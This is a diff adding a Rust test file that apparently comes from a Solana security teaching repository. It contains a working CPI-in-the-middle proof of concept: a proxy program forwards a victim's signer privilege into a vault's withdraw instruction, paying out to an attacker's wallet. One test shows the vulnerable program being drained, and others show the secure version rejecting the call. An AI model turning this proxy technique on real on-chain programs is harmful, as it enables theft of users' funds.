@@ -0,0 +1,221 @@
+//! # Instruction Introspection Tests
+//!
+//! CPI-in-the-middle against `vulnerable_introspection` and
+//! `secure_introspection`. A proxy program, standing in for the attacker's,
+//! forwards the victim's signer privilege into `withdraw` with the attacker's
+//! wallet as destination. Runs in `solana-program-test`.
+//!
+//! ```bash
+//! cargo test --test introspection
+//! ```
+
+mod common;
+
+use anchor_lang::{InstructionData, ToAccountMetas};
+use common::{custom, TestEnv};
+use solana_program_test::{processor, ProgramTest};
+use solana_sdk::{
+    account_info::AccountInfo,
+    entrypoint::ProgramResult,
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    program::invoke,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    system_program, sysvar,
+    transaction::TransactionError,
+};
+
+const DEPOSIT: u64 = LAMPORTS_PER_SOL;
+
+// ============================================================================
+// PROXY PROGRAM
+// ============================================================================
+
+/// Stand-in for the attacker's program: invokes the program passed as the
+/// first account with the remaining accounts, flags and data unchanged
+fn proxy_entry(_program_id: &Pubkey, accounts: &[AccountInfo], data: &[u8]) -> ProgramResult {
+    let (target, rest) = accounts.split_first().unwrap();
+    let ix = Instruction {
+        program_id: *target.key,
+        accounts: rest
+            .iter()
+            .map(|a| AccountMeta { pubkey: *a.key, is_signer: a.is_signer, is_writable: a.is_writable })
+            .collect(),
+        data: data.to_vec(),
+    };
+    invoke(&ix, accounts)
+}
+
+/// Wrap `ix` so it reaches its program through the proxy
+fn through_proxy(proxy: Pubkey, ix: Instruction) -> Instruction {
+    let mut accounts = vec![AccountMeta::new_readonly(ix.program_id, false)];
+    accounts.extend(ix.accounts);
+    Instruction { program_id: proxy, accounts, data: ix.data }
+}
+
+// ============================================================================
+// SETUP HELPERS
+// ============================================================================
+
+struct Setup {
+    env: TestEnv,
+    victim: Keypair,
+    attacker: Pubkey,
+    proxy: Pubkey,
+}
+
+async fn setup() -> Setup {
+    let proxy = Pubkey::new_unique();
+    let mut program_test = ProgramTest::default();
+    program_test.add_program(
+        "vulnerable_introspection",
+        vulnerable_introspection::ID,
+        processor!(vulnerable_introspection::entry),
+    );
+    program_test.add_program(
+        "secure_introspection",
+        secure_introspection::ID,
+        processor!(secure_introspection::entry),
+    );
+    program_test.add_program("proxy", proxy, processor!(proxy_entry));
+    let mut env = TestEnv::start(program_test).await;
+    let victim = env.funded_keypair(10 * LAMPORTS_PER_SOL).await;
+
+    Setup { env, victim, attacker: Pubkey::new_unique(), proxy }
+}
+
+/// Send `ix` signed by the victim
+async fn send_as_victim(setup: &mut Setup, ix: Instruction) -> Result<(), TransactionError> {
+    setup.env.send(&[ix], &[&setup.victim]).await
+}
+
+fn vault_pda(program_id: &Pubkey, authority: &Pubkey) -> Pubkey {
+    Pubkey::find_program_address(&[b"vault", authority.as_ref()], program_id).0
+}
+
+// ============================================================================
+// VULNERABLE PROGRAM
+// ============================================================================
+
+async fn vulnerable_vault(setup: &mut Setup) -> Pubkey {
+    let victim = setup.victim.pubkey();
+    let vault = vault_pda(&vulnerable_introspection::ID, &victim);
+    let init = Instruction {
+        program_id: vulnerable_introspection::ID,
+        accounts: vulnerable_introspection::accounts::Initialize {
+            vault,
+            authority: victim,
+            system_program: system_program::ID,
+        }
+        .to_account_metas(None),
+        data: vulnerable_introspection::instruction::Initialize {}.data(),
+    };
+    let deposit = Instruction {
+        program_id: vulnerable_introspection::ID,
+        accounts: vulnerable_introspection::accounts::Deposit {
+            vault,
+            depositor: victim,
+            system_program: system_program::ID,
+        }
+        .to_account_metas(None),
+        data: vulnerable_introspection::instruction::Deposit { amount: DEPOSIT }.data(),
+    };
+    setup.env.send(&[init, deposit], &[&setup.victim]).await.unwrap();
+    vault
+}
+
+#[tokio::test]
+async fn vulnerable_withdraw_through_proxy_drains_vault() {
+    let mut setup = setup().await;
+    let vault = vulnerable_vault(&mut setup).await;
+
+    let withdraw = Instruction {
+        program_id: vulnerable_introspection::ID,
+        accounts: vulnerable_introspection::accounts::Withdraw {
+            vault,
+            authority: setup.victim.pubkey(),
+            destination: setup.attacker,
+        }
+        .to_account_metas(None),
+        data: vulnerable_introspection::instruction::Withdraw { amount: DEPOSIT }.data(),
+    };
+
+    // The victim only "called" the proxy
+    let ix = through_proxy(setup.proxy, withdraw);
+    send_as_victim(&mut setup, ix).await.unwrap();
+
+    assert_eq!(setup.env.lamports(setup.attacker).await, DEPOSIT);
+}
+
+// ============================================================================
+// SECURE PROGRAM
+// ============================================================================
+
+async fn secure_vault(setup: &mut Setup) -> Pubkey {
+    let victim = setup.victim.pubkey();
+    let vault = vault_pda(&secure_introspection::ID, &victim);
+    let init = Instruction {
+        program_id: secure_introspection::ID,
+        accounts: secure_introspection::accounts::Initialize {
+            vault,
+            authority: victim,
+            system_program: system_program::ID,
+        }
+        .to_account_metas(None),
+        data: secure_introspection::instruction::Initialize {}.data(),
+    };
+    let deposit = Instruction {
+        program_id: secure_introspection::ID,
+        accounts: secure_introspection::accounts::Deposit {
+            vault,
+            depositor: victim,
+            system_program: system_program::ID,
+        }
+        .to_account_metas(None),
+        data: secure_introspection::instruction::Deposit { amount: DEPOSIT }.data(),
+    };
+    setup.env.send(&[init, deposit], &[&setup.victim]).await.unwrap();
+    vault
+}
+
+fn secure_withdraw_ix(setup: &Setup, vault: Pubkey, destination: Pubkey) -> Instruction {
+    Instruction {
+        program_id: secure_introspection::ID,
+        accounts: secure_introspection::accounts::Withdraw {
+            vault,
+            authority: setup.victim.pubkey(),
+            destination,
+            instructions: sysvar::instructions::ID,
+        }
+        .to_account_metas(None),
+        data: secure_introspection::instruction::Withdraw { amount: DEPOSIT }.data(),
+    }
+}
+
+#[tokio::test]
+async fn secure_withdraw_through_proxy_is_rejected() {
+    let mut setup = setup().await;
+    let vault = secure_vault(&mut setup).await;
+    let before = setup.env.lamports(vault).await;
+
+    let withdraw = secure_withdraw_ix(&setup, vault, setup.attacker);
+    let ix = through_proxy(setup.proxy, withdraw);
+    let err = send_as_victim(&mut setup, ix).await.unwrap_err();
+    assert_eq!(err, custom(secure_introspection::ErrorCode::MustBeTopLevel));
+
+    assert_eq!(setup.env.lamports(vault).await, before);
+    assert_eq!(setup.env.lamports(setup.attacker).await, 0);
+}
+
+#[tokio::test]
+async fn secure_direct_withdraw_succeeds() {
+    let mut setup = setup().await;
+    let vault = secure_vault(&mut setup).await;
+    let destination = Pubkey::new_unique();
+
+    let withdraw = secure_withdraw_ix(&setup, vault, destination);
+    send_as_victim(&mut setup, withdraw).await.unwrap();
+
+    assert_eq!(setup.env.lamports(destination).await, DEPOSIT);
+}